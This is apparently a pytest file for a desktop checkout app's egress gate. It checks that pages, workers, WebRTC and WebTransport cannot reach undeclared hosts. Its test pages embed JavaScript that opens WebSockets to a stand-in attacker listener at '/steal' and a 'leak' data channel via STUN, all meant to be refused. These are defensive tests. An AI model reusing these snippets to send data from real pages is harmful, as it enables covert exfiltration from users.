"""Whatever a page opens ends at the gate: sockets of pages and workers, datagrams, tunnels opened earlier."""

import socket
from collections.abc import Callable, Iterator

import pytest

from bpc_desktop.gateways.egress import EgressGate
from bpc_desktop.security.border import Border
from bpc_desktop.ui.checkout.page.merchant_page import MerchantPage
from tests.ui.page.conftest import Hands
from tests.ui.page.shop import Shop
from tests.ui.shared_gate import sent_to


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """An attacker's port: whoever reaches it is seen."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0)
        yield server


@pytest.fixture
def datagrams() -> Iterator[socket.socket]:
    """An attacker's UDP port."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver:
        receiver.bind(("127.0.0.1", 0))
        receiver.settimeout(0)
        yield receiver


SOCKETS = {
    "page": "open();",
    "dedicated worker": "new Worker('/worker.js').onmessage = told;",
    "shared worker": "const shared = new SharedWorker('/worker.js'); shared.port.onmessage = told;",
    "service worker": """navigator.serviceWorker.onmessage = told;
        navigator.serviceWorker.register('/worker.js').then(async () => {
          (await navigator.serviceWorker.ready).active.postMessage('go');
        });""",
}


@pytest.mark.parametrize("opener", SOCKETS)
def test_web_sockets_reach_no_foreign_host(
    hands: Hands, shop: Shop, gate: EgressGate, listener: socket.socket, opener: str
) -> None:
    foreign = f"127.0.0.1:{listener.getsockname()[1]}"
    shop.pages["/worker.js"] = f"""
        const open = (answer) => {{
          const socket = new WebSocket('ws://{foreign}/steal');
          socket.onerror = () => answer('refused');
          socket.onopen = () => answer('open');
        }};
        self.onconnect = (event) => open((text) => event.ports[0].postMessage(text));
        const reply = (event) => open((text) => event.source.postMessage(text));
        if (self.ServiceWorkerGlobalScope) self.onmessage = reply;
        else if (!self.SharedWorkerGlobalScope) open((text) => postMessage(text));"""
    shop.pages["/"] = f"""<body><script>
        const told = (event) => {{ document.body.dataset.told = event.data; }};
        const open = () => {{
          const socket = new WebSocket('ws://{foreign}/steal');
          socket.onerror = () => told({{data: 'refused'}});
          socket.onopen = () => told({{data: 'open'}});
        }};
        {SOCKETS[opener]}
        </script>"""
    before = sent_to(gate, foreign)
    assert hands.open(shop.url)
    hands.until("document.body.dataset.told !== undefined")
    assert hands.run("document.body.dataset.told") == "refused"
    with pytest.raises(BlockingIOError):
        listener.accept()
    assert sent_to(gate, foreign) == before


def test_web_sockets_of_workers_do_go_through_the_gate(
    make_hands: Callable[[Border], Hands], shop: Shop, gate: EgressGate, listener: socket.socket
) -> None:
    """The control to the test above: where a host is declared, its bytes are seen and counted."""
    declared = f"127.0.0.1:{listener.getsockname()[1]}"
    hands = make_hands(Border(domains=(shop.host,), resource_hosts=(declared,)))
    shop.pages["/worker.js"] = f"new WebSocket('ws://{declared}/prices')"
    shop.pages["/"] = "<script>new SharedWorker('/worker.js')</script>"
    before = sent_to(gate, declared)
    assert hands.open(shop.url)
    hands.settle(lambda: sent_to(gate, declared) > before)


def test_no_datagram_leaves(hands: Hands, shop: Shop, datagrams: socket.socket) -> None:
    foreign = f"127.0.0.1:{datagrams.getsockname()[1]}"
    shop.pages["/"] = f"""<body><script>(async () => {{
        const call = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{foreign}'}}]}});
        call.createDataChannel('leak');
        const gathered = new Promise((done) => {{
          call.onicegatheringstatechange = () => call.iceGatheringState === 'complete' && done();
        }});
        const seen = [];
        call.onicecandidate = (event) => event.candidate?.candidate && seen.push(event.candidate.candidate);
        await call.setLocalDescription();
        await gathered;
        let transport = 'none';
        try {{ await new WebTransport('https://{foreign}/').ready; transport = 'open'; }} catch (error) {{}}
        document.body.dataset.told = JSON.stringify([transport, seen.filter((one) => / udp /i.test(one))]);
      }})();</script>"""
    assert hands.open(shop.url)
    hands.until("document.body.dataset.told !== undefined")
    assert hands.run("JSON.parse(document.body.dataset.told)") == ["none", []]
    with pytest.raises(BlockingIOError):
        datagrams.recv(1)


@pytest.mark.parametrize("narrow", [MerchantPage.secret_filled, MerchantPage.arm])
def test_from_the_first_secret_on_only_declared_hosts_are_in_reach(
    make_hands: Callable[[Border], Hands],
    shop: Shop,
    other_shop: Shop,
    gate: EgressGate,
    narrow: Callable[[MerchantPage], None],
) -> None:
    shop.pages["/own"] = other_shop.pages["/kit"] = "here"
    hands = make_hands(Border(domains=(shop.host,), resource_hosts=(other_shop.host,)))
    assert hands.open(shop.url)
    reach = "fetch(url, {mode: 'no-cors'}).then(() => 'reached', () => 'refused')"
    urls = [f"{shop.url}own", f"{other_shop.url}kit", "https://198.51.100.7/"]
    narrow(hands.page)
    assert hands.run(f"Promise.all({urls}.map((url) => {reach}))") == ["reached", "reached", "refused"]
    assert "198.51.100.7:443" not in gate.traffic()
